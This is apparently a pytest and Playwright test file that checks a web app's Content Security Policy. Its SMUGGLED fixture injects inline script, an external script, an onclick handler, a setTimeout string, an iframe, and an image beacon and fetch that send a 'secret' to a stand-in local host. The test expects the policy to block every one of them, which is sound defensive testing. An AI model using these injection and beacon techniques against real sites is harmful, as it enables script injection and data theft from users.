"""What the content policy lets a browser do: all that the pages do themselves, and nothing that somebody smuggled in."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page

from dxassess.ui import inline_scripts
from tests.browser.conftest import NewContext, WorldProgram
from tests.browser.person import PATHS, Person
from tests.browser.tour import charts_drawn, unfold

UI = Path(inline_scripts.__file__).parent
LISTEN = """() => {
    window.refused = [];
    document.addEventListener('securitypolicyviolation', event => window.refused.push(
        event.effectiveDirective + ' ' + event.blockedURI));
}"""
SMUGGLED = """() => {
    const script = document.createElement('script');
    script.textContent = 'window.smuggled = 1';
    document.body.append(script);
    const loaded = document.createElement('script');
    loaded.src = 'http://127.0.0.1:9/x.js';
    document.body.append(loaded);
    const clicked = document.createElement('a');
    clicked.setAttribute('onclick', 'window.smuggled = 2');
    document.body.append(clicked);
    clicked.click();
    const picture = document.createElement('img');
    picture.src = 'http://127.0.0.1:9/told?secret';
    document.body.append(picture);
    const frame = document.createElement('iframe');
    frame.src = 'http://127.0.0.1:9/';
    document.body.append(frame);
    setTimeout('window.smuggled = 3', 0);
    return fetch('http://127.0.0.1:9/told').catch(() => null).then(() => new Promise(
        done => setTimeout(() => done(window.smuggled ?? null), 100)));
}"""


@pytest.fixture
def visitor(world_program: WorldProgram, new_context: NewContext) -> Iterator[Person]:
    context = new_context()
    context.add_init_script(f"({LISTEN})()")
    page = context.new_page()
    yield Person(page, world_program("demo").address)
    page.close()


def refused(page: Page) -> list[str]:
    return list(page.evaluate("window.refused"))


@pytest.mark.parametrize("name", PATHS)
def test_every_page_works_with_all_that_is_on_it(visitor: Person, name: str) -> None:
    visitor.open(name)
    page = visitor.page
    charts_drawn(page)
    unfold(page)
    for box in [each for each in page.get_by_role("combobox").all() if each.is_enabled()][:2]:
        box.evaluate("box => box.scrollIntoView({block: 'center'})")
        box.click()
        page.keyboard.press("Escape")
    for chart in page.get_by_test_id("stPlotlyChart").all()[:2]:
        chart.hover()
    assert page.evaluate("window.dxassessWords !== undefined")
    assert refused(page) == []


def test_what_was_smuggled_in_does_not_run_and_tells_nobody(visitor: Person) -> None:
    visitor.open("about")
    assert visitor.page.evaluate(SMUGGLED) is None
    found = {each.split()[0] for each in refused(visitor.page)}
    assert found == {
        "script-src-elem",
        "script-src-attr",
        "script-src",
        "img-src",
        "frame-src",
        "connect-src",
    }


def test_every_module_that_puts_a_script_into_a_page_is_known_to_the_policy() -> None:
    """A new one is added to `inline_scripts`; without that no browser would run it."""
    known = {alias.name for node in ast.walk(ast.parse((UI / "inline_scripts.py").read_text("utf-8"))) if isinstance(node, ast.ImportFrom) for alias in node.names}  # fmt: skip
    carrying = {
        path.stem for path in UI.rglob("*.py") if "unsafe_allow_javascript" in path.read_text("utf-8")
    }
    assert carrying
    assert carrying <= known
